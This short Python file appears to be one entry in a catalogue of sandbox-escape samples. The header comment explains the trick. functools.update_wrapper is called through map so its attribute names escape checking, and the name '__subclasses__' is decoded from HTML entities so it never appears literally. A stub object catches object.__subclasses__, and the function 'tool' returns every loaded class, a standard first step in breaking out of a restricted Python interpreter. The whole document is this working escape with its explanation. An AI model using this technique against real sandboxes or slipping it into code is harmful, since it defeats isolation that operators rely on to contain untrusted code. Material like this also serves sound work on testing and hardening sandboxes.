# family: computed
# Escape: update_wrapper calls getattr(wrapper, n).update(getattr(wrapped, n)); with a Catcher object as the
# wrapper's attribute, .update receives ANY attribute of wrapped, here object.__subclasses__ (name decoded
# with html.unescape). update_wrapper is called through map, so its names are never checked.
import functools
import html
import types


class Catcher:
    def update(self, value):
        self.value = value


def tool() -> list:
    name = html.unescape("&#95;&#95;subclasses&#95;&#95;")
    catcher = Catcher()
    list(map(functools.update_wrapper, [types.SimpleNamespace(**{name: catcher})], [object], [()], [(name,)]))
    return catcher.value()
